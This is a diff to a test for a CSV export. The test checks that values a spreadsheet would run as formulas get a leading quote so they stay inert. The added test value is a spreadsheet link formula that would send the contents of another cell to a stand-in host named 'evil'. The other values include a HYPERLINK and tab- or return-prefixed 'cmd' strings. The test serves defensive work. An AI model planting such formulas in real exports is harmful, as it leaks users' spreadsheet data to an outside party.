@@ -81,7 +81,7 @@ describe("CSV export", () => {
   });
 
   it("neutralises cells a spreadsheet would run as a formula, and leaves numbers alone", async () => {
-    const dangerous = ["=HYPERLINK(\"http://evil\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
+    const dangerous = ["=HYPERLINK(\"http://evil\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://evil?"&A2,"x")\nsecond line'];
     const csv = await file([dangerous.map((order_name, i) => invoice({ order_id: `O-${i}`, order_name }))]);
     const cells = parse(csv).data.map((r) => r.order_name);
     expect(cells).toEqual(dangerous.map((d) => `'${d}`));
